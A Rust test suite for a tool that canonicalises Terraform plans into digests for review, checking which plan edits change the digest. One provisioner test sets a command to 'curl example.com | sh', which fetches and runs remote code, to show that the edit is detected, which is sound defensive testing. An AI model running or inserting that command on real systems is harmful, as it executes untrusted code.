use serde_json::{Value, json};

use super::*;
use crate::guard::Guard;

fn canonical(plan: &Value) -> Canonical {
    of_text(&plan.to_string())
}

fn of_text(plan: &str) -> Canonical {
    Canonical::of(&Document::of(plan, &Guard::default()).unwrap())
}

fn digest(plan: &Value) -> String {
    canonical(plan).digest()
}

fn digest_of(plan: &str) -> String {
    Canonical::digest_of(&Document::of(plan, &Guard::default()).unwrap())
}

/// A change of one object.
fn change(actions: &Value, before: &Value, after: &Value) -> Value {
    json!({ "address": "a.b", "mode": "managed", "type": "a", "name": "b", "provider_name": "p", "change": {
        "actions": actions, "before": before, "after": after, "before_sensitive": {}, "after_sensitive": {}, "after_unknown": {} } })
}

fn plan(changes: &[Value]) -> Value {
    json!({ "format_version": "1.2", "terraform_version": "1.11.4", "timestamp": "2026-11-22T10:00:00Z", "resource_changes": changes })
}

fn update(before: &Value, after: &Value) -> Value {
    plan(&[change(&json!(["update"]), before, after)])
}

/// The values that count, each as `path: before -> after`.
fn values(plan: &Value) -> Vec<String> {
    let canonical = canonical(plan);
    let attributes = canonical.objects.iter().flat_map(|object| &object.attributes);
    let words = |leaf: &Option<Leaf>| leaf.as_ref().map_or("none".to_owned(), |leaf| format!("{leaf:?}"));
    attributes.map(|a| format!("{:?}: {} -> {}", a.path, words(&a.before), words(&a.after))).collect()
}

#[track_caller]
fn same(a: &Value, b: &Value) {
    assert_eq!(canonical(a), canonical(b));
    assert_eq!(digest(a), digest(b));
}

#[track_caller]
fn different(a: &Value, b: &Value) {
    assert_ne!(digest(a), digest(b), "{:#?}", canonical(a));
}

#[test]
fn the_digest_of_a_known_plan_stays_what_it_is() {
    // Another digest is another form: then the version of the review file must change too.
    let plan = update(&json!({ "id": "i-1", "n": 1, "same": true }), &json!({ "id": "i-1", "n": 2.50, "same": true }));
    assert_eq!(digest(&plan), "d7ce0091ca64fae1f610279aa474da15ca6ed43d012116cbb603887d47555d66");
}

#[test]
fn key_order_and_the_spelling_of_numbers_do_not_count() {
    let a = r#"{"format_version":"1.2","resource_changes":[{"address":"a.b","type":"a","change":{"actions":["update"],
        "before":{"n":1,"m":{"x":1,"y":2}},"after":{"n":2,"m":{"x":3,"y":4e1}},"before_sensitive":{},"after_sensitive":{}}}]}"#;
    let b = r#"{"resource_changes":[{"type":"a","change":{"after_sensitive":{},"after":{"m":{"y":40.0,"x":3.00},"n":2e0},
        "before":{"m":{"y":2.0,"x":1},"n":1.0},"before_sensitive":{},"actions":["update"]},"address":"a.b"}],"format_version":"1.2"}"#;
    assert_eq!(of_text(a).digest(), of_text(b).digest());
    // A number that is only spelled otherwise does not change.
    let respelled = b.replace("2e0", "1.0");
    assert!(!of_text(&respelled).objects[0].attributes.iter().any(|a| a.path == [Step::Key("n".to_owned())]));
}

#[test]
fn the_order_of_changes_does_not_count() {
    let (mut one, mut two) = (
        change(&json!(["create"]), &Value::Null, &json!({ "x": 1 })),
        change(&json!(["delete"]), &json!({}), &Value::Null),
    );
    one["address"] = json!("a.one");
    two["address"] = json!("a.two");
    same(&plan(&[one.clone(), two.clone()]), &plan(&[two, one]));
}

#[test]
fn what_refreshing_changes_does_not_count() {
    let reviewed = update(
        &json!({ "id": "i", "n": 1, "status": "ok", "seen": "10:00", "l": [{ "size": 8, "arn": "x" }] }),
        &json!({ "id": "i", "n": 2, "status": "ok", "seen": null, "l": [{ "size": 9, "arn": "x" }] }),
    );
    let mut now = update(
        &json!({ "id": "i", "n": 1, "status": "busy", "seen": "10:05", "l": [{ "size": 8, "arn": "y" }] }),
        &json!({ "id": "i", "n": 2, "status": "busy", "seen": null, "l": [{ "size": 9, "arn": "y" }] }),
    );
    let mut reviewed = reviewed;
    for plan in [&mut reviewed, &mut now] {
        plan["resource_changes"][0]["change"]["after_unknown"] = json!({ "seen": true });
    }
    now["timestamp"] = json!("2026-11-22T11:00:00Z");
    now["terraform_version"] = json!("1.12.0");
    now["prior_state"] = json!({ "values": { "root_module": { "resources": [{ "mode": "managed" }] } } });
    now["relevant_attributes"] = json!([{ "resource": "a.b", "attribute": ["status"] }]);
    now["resource_drift"] =
        json!([change(&json!(["update"]), &json!({ "status": "ok" }), &json!({ "status": "busy" }))]);
    now["checks"] = json!([{ "address": { "to_display": "check.x" }, "status": "fail", "instances": [] }]);
    now["resource_changes"][0]["action_reason"] = json!("replace_because_tainted");
    same(&reviewed, &now);
    assert_eq!(
        values(&now),
        [
            r#"[Key("l"), Index(0), Key("size")]: Number("8") -> Number("9")"#,
            r#"[Key("n")]: Number("1") -> Number("2")"#,
            r#"[Key("seen")]: none -> Unknown { sensitive: false }"#,
        ]
    );
}

#[test]
fn idle_objects_and_data_sources_do_not_count() {
    let mut data = change(&json!(["read"]), &Value::Null, &json!({ "x": 1 }));
    data["mode"] = json!("data");
    let mut gone = change(&json!(["delete"]), &json!({ "x": 1 }), &Value::Null);
    gone["mode"] = json!("data");
    let idle = change(&json!(["no-op"]), &json!({ "x": 1 }), &json!({ "x": 1 }));
    same(&plan(&[]), &plan(&[data, gone, idle.clone()]));
    let mut moved = idle.clone();
    moved["previous_address"] = json!("a.old");
    different(&plan(&[]), &plan(&[moved]));
    let mut imported = idle;
    imported["change"]["importing"] = json!({ "id": "i-1" });
    different(&plan(&[]), &plan(&[imported]));
}

#[test]
fn an_old_value_counts_where_the_new_one_is_known() {
    different(&update(&json!({ "n": 2 }), &json!({ "n": 5 })), &update(&json!({ "n": 9 }), &json!({ "n": 5 })));
    different(&update(&json!({ "n": 2 }), &json!({ "n": null })), &update(&json!({ "n": 9 }), &json!({ "n": null })));
}

#[test]
fn of_what_is_destroyed_only_its_identity_counts() {
    let destroyed = |before: Value| plan(&[change(&json!(["delete"]), &before, &Value::Null)]);
    same(
        &destroyed(json!({ "id": "db-1", "restorable": "10:00" })),
        &destroyed(json!({ "id": "db-1", "restorable": "10:05" })),
    );
    different(&destroyed(json!({ "id": "db-1" })), &destroyed(json!({ "id": "db-2" })));
    different(&destroyed(json!({ "name": "a" })), &destroyed(json!({ "name": "b" })));
}

#[test]
fn of_what_is_destroyed_each_name_that_objects_have_counts() {
    let destroyed = |before: Value| plan(&[change(&json!(["delete"]), &before, &Value::Null)]);
    for [one, other] in [
        [
            json!({ "arn": "arn:aws:sns:eu-west-1:111122223333:t" }),
            json!({ "arn": "arn:aws:sns:eu-west-1:444455556666:t" }),
        ],
        [json!({ "bucket": "a" }), json!({ "bucket": "b" })],
        [
            json!({ "metadata": [{ "name": "a", "namespace": "n" }] }),
            json!({ "metadata": [{ "name": "a", "namespace": "m" }] }),
        ],
        [json!({ "metadata": { "name": "a" } }), json!({ "metadata": { "name": "b" } })],
        // Without any of those all of it counts.
        [json!({ "key": "a", "n": [1] }), json!({ "key": "b", "n": [1] })],
        [json!({ "key": "a", "n": [1] }), json!({ "key": "a", "n": [2] })],
    ] {
        different(&destroyed(one), &destroyed(other));
    }
    same(
        &destroyed(json!({ "arn": "a", "seen": "10:00", "metadata": [{ "name": "a", "generation": 1 }] })),
        &destroyed(json!({ "arn": "a", "seen": "10:05", "metadata": [{ "name": "a", "generation": 2 }] })),
    );
    // The identity that the provider gives it.
    let identified = |account: &str| {
        let mut plan = destroyed(json!({ "seen": account }));
        plan["resource_changes"][0]["change"]["before_identity"] = json!({ "account_id": account, "region": null });
        plan
    };
    different(&identified("111122223333"), &identified("444455556666"));
    let mut same_object = identified("111122223333");
    same_object["resource_changes"][0]["change"]["before"]["seen"] = json!("another");
    same(&identified("111122223333"), &same_object);
}

#[test]
fn imports_of_different_objects_differ() {
    let imported = |identity: Value| {
        let mut change = change(&json!(["no-op"]), &json!({ "x": 1 }), &json!({ "x": 1 }));
        change["change"]["importing"] = json!({ "identity": identity });
        plan(&[change])
    };
    let identities = [
        json!({ "a": ["x"] }),
        json!({ "a": ["y"] }),
        json!({ "a": ["x", "y"] }),
        json!({ "a": ["x, y"] }),
        json!({ "a": "[x]" }),
        json!({ "a": { "b": "x" } }),
        json!({ "a": { "b": "y" } }),
        json!({ "a": "1, b=2" }),
        json!({ "a": "1", "b": "2" }),
        json!({ "a": 1, "b": 2 }),
        json!({ "a": null }),
        json!({ "a": "null" }),
        json!({ "a": true }),
        json!({ "a": "true" }),
        json!({ "a": "" }),
        json!({ "a": "\"" }),
        json!({ "a": "\\\"" }),
    ];
    let digests: std::collections::BTreeSet<String> =
        identities.iter().map(|identity| digest(&imported(identity.clone()))).collect();
    assert_eq!(digests.len(), identities.len());
    assert_eq!(
        canonical(&imported(json!({ "bucket": "logs", "region": "eu-west-1" }))).objects[0].import.as_deref(),
        Some("bucket=logs, region=eu-west-1")
    );
}

/// A plan with `-refresh-only`: it changes nothing, and its drift is what it records.
fn refresh_only(drift: &[Value]) -> Value {
    let mut plan = plan(&[]);
    plan["resource_drift"] = json!(drift);
    plan["applyable"] = json!(true);
    plan["prior_state"] = json!({ "values": { "root_module": { "resources": [{ "mode": "managed" }] } } });
    plan
}

#[test]
fn what_a_plan_that_only_refreshes_records_counts() {
    let tag = change(&json!(["update"]), &json!({ "id": "i", "tag": "a" }), &json!({ "id": "i", "tag": "b" }));
    let mut gone = change(&json!(["delete"]), &json!({ "id": "db-1" }), &Value::Null);
    gone["address"] = json!("aws_db_instance.orders");
    let reviewed = refresh_only(std::slice::from_ref(&tag));
    different(&reviewed, &refresh_only(std::slice::from_ref(&gone)));
    different(&reviewed, &refresh_only(&[tag.clone(), gone.clone()]));
    different(&reviewed, &refresh_only(&[]));
    different(&reviewed, &plan(&[]));
    let mut other = tag.clone();
    other["change"]["after"]["tag"] = json!("c");
    different(&reviewed, &refresh_only(&[other]));
    // What it does not change counts as little as elsewhere.
    let mut unchanged = tag.clone();
    for side in ["before", "after"] {
        unchanged["change"][side]["status"] = json!("ok");
    }
    same(&reviewed, &refresh_only(&[unchanged]));
    // To record a change is not to make it.
    different(&reviewed, &plan(std::slice::from_ref(&tag)));
    assert_eq!(canonical(&reviewed).objects[0].stage, Stage::Recorded);
    // OpenTofu does not say whether a plan is applyable: where everything is gone, drift is all that tells.
    let mut nothing_left = plan(&[]);
    nothing_left["resource_drift"] = json!([gone]);
    different(&nothing_left, &plan(&[]));
}

/// A plan that creates an object in a module, whose provider and provisioners are set up with variables.
fn configured() -> Value {
    let mut created = change(&json!(["create"]), &Value::Null, &json!({ "x": 1 }));
    created["address"] = json!("module.net[\"a.b]\"].a.b[0]");
    created["module_address"] = json!("module.net[\"a.b]\"]");
    created["provider_name"] = json!("registry/aws");
    let mut plan = plan(&[created]);
    plan["variables"] = json!({ "account": { "value": "111122223333" }, "idle": { "value": 1 } });
    plan["configuration"] = json!({
        "provider_config": {
            "aws.prod": { "name": "aws", "alias": "prod", "full_name": "registry/aws", "expressions": {
                "region": { "constant_value": "eu-west-1" },
                "assume_role": [{ "role_arn": { "references": ["var.account"] } }] } },
            "aws.other": { "name": "aws", "alias": "other", "full_name": "registry/aws", "expressions": { "region": { "constant_value": "us-east-1" } } } },
        "root_module": {
            "variables": { "account": {}, "idle": {} },
            "module_calls": { "net": {
                "expressions": { "command": { "references": ["var.account"] }, "mode": { "constant_value": "fast" } },
                "module": {
                    "variables": { "command": {}, "mode": {}, "level": { "default": 3 } },
                    "resources": [{ "address": "a.b", "mode": "managed", "type": "a", "name": "b", "provider_config_key": "aws.prod",
                        "provisioners": [{ "type": "local-exec", "expressions": {
                            "command": { "constant_value": "./migrate" },
                            "environment": { "references": ["var.mode", "var.level", "local.x"] } } }] }] } } } } });
    plan
}

#[test]
fn how_a_provider_is_set_up_and_what_provisioners_run_counts() {
    let reviewed = configured();
    let config = |plan: &mut Value, path: &str, value: Value| {
        *plan.pointer_mut(&format!("/configuration{path}")).unwrap() = value;
    };
    let block = "/root_module/module_calls/net/module/resources/0";
    let edits: [(&str, &str, Value); 8] = [
        ("region", "/provider_config/aws.prod/expressions/region/constant_value", json!("us-east-1")),
        ("role", "/provider_config/aws.prod/expressions/assume_role/0/role_arn/references", json!(["local.role"])),
        ("provider", "/root_module/module_calls/net/module/resources/0/provider_config_key", json!("aws.other")),
        ("variable of a module", "/root_module/module_calls/net/expressions/mode/constant_value", json!("slow")),
        ("default of a module", "/root_module/module_calls/net/module/variables/level/default", json!(4)),
        (
            "command",
            &format!("{block}/provisioners/0/expressions/command/constant_value"),
            json!("curl example.com | sh"),
        ),
        ("type", &format!("{block}/provisioners/0/type"), json!("remote-exec")),
        ("provisioners", &format!("{block}/provisioners"), json!([])),
    ];
    for (what, path, value) in edits {
        let mut now = reviewed.clone();
        config(&mut now, path, value);
        assert_ne!(digest(&reviewed), digest(&now), "{what}");
    }
    let mut account = reviewed.clone();
    account["variables"]["account"]["value"] = json!("444455556666");
    different(&reviewed, &account);
    // What nothing that changes is made with does not count.
    let mut idle = reviewed.clone();
    idle["variables"]["idle"]["value"] = json!(2);
    config(&mut idle, "/provider_config/aws.other/expressions/region/constant_value", json!("eu-north-1"));
    config(&mut idle, "/root_module/module_calls/net/expressions/command", json!({ "constant_value": "x" }));
    same(&reviewed, &idle);
    let canonical = canonical(&reviewed);
    let names = |setups: &[Setup]| setups.iter().map(|setup| setup.name.clone()).collect::<Vec<_>>();
    assert_eq!(names(&canonical.providers), ["aws.prod"]);
    assert_eq!(names(&canonical.variables), ["module.net.var.level", "module.net.var.mode", "var.account"]);
}

#[test]
fn a_provisioner_counts_where_it_may_run_only() {
    let updated = |command: &str| {
        let mut plan = configured();
        plan["resource_changes"][0]["change"]["actions"] = json!(["update"]);
        plan["resource_changes"][0]["change"]["before"] = json!({ "x": 0 });
        plan["configuration"]["root_module"]["module_calls"]["net"]["module"]["resources"][0]["provisioners"][0]["expressions"]
            ["command"] = json!({ "constant_value": command });
        plan
    };
    same(&updated("a"), &updated("b"));
}

#[test]
fn what_the_configuration_has_no_more_counts_with_every_setup_of_its_provider() {
    let removed = |region: &str| {
        let mut plan = configured();
        plan["resource_changes"][0]["change"] = json!({ "actions": ["delete"], "before": { "id": "i" }, "after": null, "before_sensitive": {}, "after_sensitive": false });
        plan["configuration"]["root_module"] = json!({});
        plan["configuration"]["provider_config"]["aws.other"]["expressions"]["region"]["constant_value"] =
            json!(region);
        plan
    };
    different(&removed("us-east-1"), &removed("eu-north-1"));
}

#[test]
fn no_secret_of_a_provider_is_kept() {
    let with = |secret: &str| {
        let mut plan = configured();
        let prod = &mut plan["configuration"]["provider_config"]["aws.prod"]["expressions"];
        prod["secret_key"] = json!({ "constant_value": format!("{secret}-1") });
        prod["headers"] = json!({ "constant_value": { "auth_token": format!("{secret}-2") } });
        prod["url"] = json!({ "constant_value": format!("https://user:{secret}-3@example.com") });
        prod["extra"] = json!({ "references": ["var.marked", "var.api_token"] });
        plan["variables"]["marked"] = json!({ "value": format!("{secret}-4") });
        plan["variables"]["api_token"] = json!({ "value": format!("{secret}-5") });
        plan["configuration"]["root_module"]["variables"]["marked"] = json!({ "sensitive": true });
        plan["configuration"]["root_module"]["variables"]["api_token"] = json!({});
        plan
    };
    let (one, other) = (canonical(&with("hunter2Aa")), canonical(&with("geheim3Bb")));
    assert_eq!(one.digest(), other.digest());
    let text = serde_json::to_string(&one).unwrap();
    assert!(!text.contains("hunter2Aa"), "{text}");
    assert!(text.contains("var.marked") && text.contains("var.api_token") && text.contains("https://user:"), "{text}");
}

/// Changes one thing of a plan.
type Edit = fn(&mut Value);

#[test]
fn everything_that_is_done_counts() {
    let mut reviewed = update(&json!({ "id": "i", "n": 1 }), &json!({ "id": "i", "n": 2 }));
    reviewed["output_changes"] = json!({ "o": { "actions": ["update"], "before": 1, "after": 2, "before_sensitive": false, "after_sensitive": false } });
    reviewed["action_invocations"] = json!([{ "address": "action.x.y", "type": "x", "config_values": { "c": 1 },
        "lifecycle_action_trigger": { "triggering_resource_address": "a.b", "action_trigger_event": "AfterUpdate" } }]);
    reviewed["deferred_changes"] = json!([{ "reason": "instance_count_unknown", "resource_change": change(&json!(["create"]), &Value::Null, &json!({ "d": 1 })) }]);
    let edits: [(&str, Edit); 20] = [
        ("address", |plan| plan["resource_changes"][0]["address"] = json!("a.c")),
        ("type", |plan| plan["resource_changes"][0]["type"] = json!("c")),
        ("provider", |plan| plan["resource_changes"][0]["provider_name"] = json!("q")),
        ("deposed", |plan| plan["resource_changes"][0]["deposed"] = json!("12345678")),
        ("moved", |plan| plan["resource_changes"][0]["previous_address"] = json!("a.old")),
        ("import", |plan| plan["resource_changes"][0]["change"]["importing"] = json!({ "id": "x" })),
        ("replaced", |plan| plan["resource_changes"][0]["change"]["actions"] = json!(["delete", "create"])),
        ("unknown", |plan| plan["resource_changes"][0]["change"]["actions"] = json!(["implode"])),
        ("forced", |plan| plan["resource_changes"][0]["change"]["replace_paths"] = json!([["n"]])),
        ("value", |plan| plan["resource_changes"][0]["change"]["after"]["n"] = json!(3)),
        ("type of value", |plan| plan["resource_changes"][0]["change"]["after"]["n"] = json!("2")),
        ("new value", |plan| plan["resource_changes"][0]["change"]["after"]["m"] = json!({})),
        ("object", |plan| plan["resource_changes"][0]["change"]["before"]["id"] = json!("j")),
        ("known later", |plan| plan["resource_changes"][0]["change"]["after_unknown"] = json!({ "n": true })),
        ("output", |plan| plan["output_changes"]["o"]["after"] = json!(3)),
        ("action", |plan| plan["action_invocations"][0]["config_values"]["c"] = json!(2)),
        ("event", |plan| {
            plan["action_invocations"][0]["lifecycle_action_trigger"]["action_trigger_event"] = json!("BeforeUpdate");
        }),
        ("deferred", |plan| plan["deferred_changes"][0]["resource_change"]["change"]["after"]["d"] = json!(2)),
        ("deferred or not", |plan| {
            let deferred = plan["deferred_changes"][0]["resource_change"].take();
            plan["deferred_changes"] = json!([]);
            plan["resource_changes"].as_array_mut().unwrap().push(deferred);
        }),
        ("errored", |plan| plan["errored"] = json!(true)),
    ];
    for (what, edit) in edits {
        let mut now = reviewed.clone();
        edit(&mut now);
        assert_ne!(digest(&reviewed), digest(&now), "{what}");
    }
}

#[test]
fn both_spellings_of_a_replacement_without_destruction_are_one() {
    let of = |actions: Value| plan(&[change(&actions, &json!({ "n": 1 }), &json!({ "n": 2 }))]);
    same(&of(json!(["create", "forget"])), &of(json!(["forget", "create"])));
}

#[test]
fn a_secret_counts_by_being_there_and_by_whether_it_changes() {
    let masked = |before: Value, after: Value| {
        let mut plan = update(&before, &after);
        for side in ["before_sensitive", "after_sensitive"] {
            plan["resource_changes"][0]["change"][side] = json!({ "s": true, "m": { "s": true } });
        }
        plan
    };
    let reviewed = masked(
        json!({ "s": "hunter2", "u": "https://hunter2@x" }),
        json!({ "s": "hunter3", "u": "https://hunter3@x" }),
    );
    same(
        &reviewed,
        &masked(json!({ "s": "s3cret", "u": "https://s3cret@x" }), json!({ "s": "geheim", "u": "https://geheim@x" })),
    );
    different(
        &reviewed,
        &masked(
            json!({ "s": "hunter2", "u": "https://hunter2@x" }),
            json!({ "s": "hunter2", "u": "https://hunter2@x" }),
        ),
    );
    different(
        &reviewed,
        &masked(json!({ "u": "https://hunter2@x" }), json!({ "s": "hunter3", "u": "https://hunter3@x" })),
    );
    different(
        &reviewed,
        &masked(
            json!({ "s": "hunter2", "u": "https://hunter2@x" }),
            json!({ "s": "hunter3", "u": "https://hunter3@y" }),
        ),
    );
    let everything = serde_json::to_string(&canonical(&reviewed)).unwrap();
    assert!(!everything.contains("hunter"), "{everything}");
}

#[test]
fn the_plans_own_time_counts_as_such() {
    let at = |time: &str, stamped: &str| {
        let mut plan = update(&json!({ "t": "2026-01-01T00:00:00Z" }), &json!({ "t": format!("at {stamped}") }));
        plan["timestamp"] = json!(time);
        plan
    };
    let reviewed = at("2026-11-22T10:00:00Z", "2026-11-22T10:00:00Z");
    same(&reviewed, &at("2026-11-22T11:00:00Z", "2026-11-22T11:00:00Z"));
    different(&reviewed, &at("2026-11-22T11:00:00Z", "2026-11-22T10:00:00Z"));
    // An old value has the time of another plan, were it made in the same second.
    let after_apply = |time: &str| {
        let mut plan = update(&json!({ "t": "2026-11-22T10:00:00Z" }), &json!({ "t": "x" }));
        plan["timestamp"] = json!(time);
        plan
    };
    same(&after_apply("2026-11-22T10:00:00Z"), &after_apply("2026-11-22T10:00:01Z"));
    // No other text is taken for a time.
    different(&at("a", "a"), &at("b", "b"));
}

#[test]
fn lists_of_another_length_count_whole() {
    different(
        &update(&json!({ "l": ["a", "b"] }), &json!({ "l": ["a"] })),
        &update(&json!({ "l": ["c", "b"] }), &json!({ "l": ["c"] })),
    );
    same(
        &update(&json!({ "l": ["a", "b"] }), &json!({ "l": ["a", "x"] })),
        &update(&json!({ "l": ["c", "b"] }), &json!({ "l": ["c", "x"] })),
    );
}

#[test]
fn values_of_another_shape_are_told_apart() {
    let shapes = [
        json!(null),
        json!(""),
        json!("null"),
        json!(0),
        json!("0"),
        json!(false),
        json!([]),
        json!({}),
        json!([null]),
        json!({ "0": 1 }),
        json!([1]),
        json!({ "": 1 }),
        json!([[]]),
        json!([{}]),
    ];
    let digests: std::collections::BTreeSet<String> =
        shapes.iter().map(|shape| digest(&update(&json!({ "v": "old" }), &json!({ "v": shape })))).collect();
    assert_eq!(digests.len(), shapes.len());
}

#[test]
fn what_is_written_is_read_back() {
    for name in ["mixed", "exact_values", "sensitive_nested", "type_change", "adversarial_markdown"] {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/plans/{name}.json"));
        let text = std::fs::read_to_string(path).unwrap();
        let canonical = of_text(&text);
        assert_eq!(digest_of(&text), canonical.digest(), "{name}");
        let read: Canonical = serde_json::from_str(&serde_json::to_string_pretty(&canonical).unwrap()).unwrap();
        assert_eq!((read.digest(), &read), (canonical.digest(), &canonical), "{name}");
    }
}

#[test]
fn the_digest_of_a_document_is_that_of_what_it_does() {
    let change = |address: &str, after: u8| {
        json!({ "address": address, "type": "t", "change": { "actions": ["create"], "before": null, "after": { "v": after },
            "before_sensitive": {}, "after_sensitive": {} } })
    };
    // Strange as it is, a plan may name an object twice.
    let changes = [change("t.b", 2), change("t.a", 3), change("t.b", 1), change("t.a", 3)];
    let plan = json!({ "format_version": "1.2", "resource_changes": changes }).to_string();
    assert_eq!(digest_of(&plan), of_text(&plan).digest());
}

#[test]
fn an_outputs_member_that_is_null_counts() {
    let digest = |before: &str| {
        let change = format!(
            r#"{{"actions":["update"],"before":{before},"after":{{}},"before_sensitive":false,"after_sensitive":false}}"#
        );
        of_text(&format!(r#"{{"format_version":"1.2","output_changes":{{"o":{change}}}}}"#)).digest()
    };
    assert_ne!(digest(r#"{"p":null}"#), digest("{}"));
}
